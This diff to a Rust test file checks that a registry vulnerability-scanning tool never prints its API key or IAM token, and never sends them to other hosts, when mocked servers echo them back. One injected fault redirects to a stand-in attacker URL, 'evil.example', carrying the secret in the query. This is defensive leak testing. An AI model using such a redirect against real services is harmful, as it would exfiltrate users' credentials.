@@ -17,6 +17,7 @@ fn repeating(text: &str) -> Vec<Vec<Fault>> {
     let at = |fault: Fault, path: &str| fault.host("us.icr.io").path(path);
     let body = |text: String| Fault::status(200).body(text);
     let some = || at(body(json!({"status": "FAIL", "vulnerability_count": 1}).to_string()), STATUS);
+    let none = || at(body(json!({"status": "OK"}).to_string()), STATUS);
     let package = json!({"package_name": text, "installed_version": text, "fix_version": text});
     let report = json!({
         "status": text,
@@ -36,40 +37,53 @@ fn repeating(text: &str) -> Vec<Vec<Fault>> {
         vec![at(Fault::status(403).body(error.clone()), STATUS)],
         vec![at(Fault::status(418).body(error.clone()), STATUS)],
         vec![at(Fault::new(Action::RedirectTo(format!("https://evil.example/?{text}"))), STATUS)],
-        vec![manifest(Fault::status(403).body(error.clone()))],
-        vec![manifest(Fault::status(418).body(error))],
+        vec![none(), manifest(Fault::status(403).body(error.clone()))],
+        vec![none(), manifest(Fault::status(418).body(error))],
     ]
+}
+
+/// A token of IAM for an account.
+fn token(head: &str, account: &str, signature: &str) -> String {
+    let payload = URL_SAFE_NO_PAD.encode(json!({"account": {"bss": account}}).to_string());
+    format!("{head}.{payload}.{signature}")
+}
+
+/// Has the advisor repeat a text to somebody with that token.
+fn is_not_shown(text: &str, token: &str) {
+    let outputs = ["text", "json"];
+    for (faults, output) in
+        repeating(text).into_iter().flat_map(|one| outputs.map(|to| (one.clone(), to)))
+    {
+        let world = World::start().unwrap();
+        world.add_key(Key::with_value(KEY));
+        let given = Fault::status(200).body(json!({"access_token": token}).to_string());
+        world.add_fault(given.host(IAM_HOST));
+        let what = format!("{faults:?}");
+        for fault in faults {
+            world.add_fault(fault);
+        }
+        let words = ["check", "web", "--verbose", "--vulnerabilities", "fail", "--image", IMAGE];
+        let words = words.iter().chain(&["--vulnerabilities-wait", "0s"]);
+        let run = Invocation::new(words).arguments(["--output", output]);
+        let run = run.variable("ICR_CF_API_KEY", KEY).in_world(&world).run();
+        secrets_stay(&world, &run, KEY, &[]);
+        run.shows_nothing_of(token, &[]);
+        let elsewhere = |host: &str| host != "us.icr.io";
+        let left = world.saw(|one| elsewhere(&one.host) && one.carries(token));
+        assert!(!left, "{what}: {run}");
+    }
 }
 
 #[test]
 fn key_and_token_of_iam_are_not_shown_though_the_advisor_repeats_them() {
-    let payload =
-        json!({"account": {"bss": "5a0db0c0000000000000000000000001"}, "exp": 4_102_444_800_u64});
-    let payload = URL_SAFE_NO_PAD.encode(payload.to_string());
-    let token = format!("eyJhbGciOiJSUzI1NiJ9.{payload}.c2lnbmF0dXJlLW9mLWlhbQ");
-    for text in [KEY.to_owned(), token.clone(), format!("a {token} in words"), format!("a {KEY} b")]
-    {
-        for faults in repeating(&text) {
-            let world = World::start().unwrap();
-            world.add_key(Key::with_value(KEY));
-            let given = Fault::status(200).body(json!({"access_token": token}).to_string());
-            world.add_fault(given.host(IAM_HOST));
-            let what = format!("{faults:?}");
-            for fault in faults {
-                world.add_fault(fault);
-            }
-            let words =
-                ["check", "web", "--verbose", "--vulnerabilities", "fail", "--image", IMAGE];
-            let words = words.iter().chain(&["--vulnerabilities-wait", "0s"]);
-            for output in ["text", "json"] {
-                let run = Invocation::new(words.clone()).arguments(["--output", output]);
-                let run = run.variable("ICR_CF_API_KEY", KEY).in_world(&world).run();
-                secrets_stay(&world, &run, KEY, &[]);
-                run.shows_nothing_of(&token, &[]);
-                let elsewhere = |host: &str| host != "us.icr.io";
-                let left = world.saw(|one| elsewhere(&one.host) && one.carries(&token));
-                assert!(!left, "{what}: {run}");
-            }
+    let usual = token("eyJhbGciOiJSUzI1NiJ9", "5a0db0c0000000000000000000000001", "c2lnbmF0dXJl");
+    // So short that nothing but knowing it finds it in a text.
+    let short = token("a", "x", "b");
+    std::thread::scope(|scope| {
+        for token in [&usual, &short] {
+            let texts =
+                [KEY.to_owned(), token.clone(), format!("a {token} b"), format!("a {KEY} b")];
+            scope.spawn(move || texts.iter().for_each(|text| is_not_shown(text, token)));
         }
-    }
+    });
 }
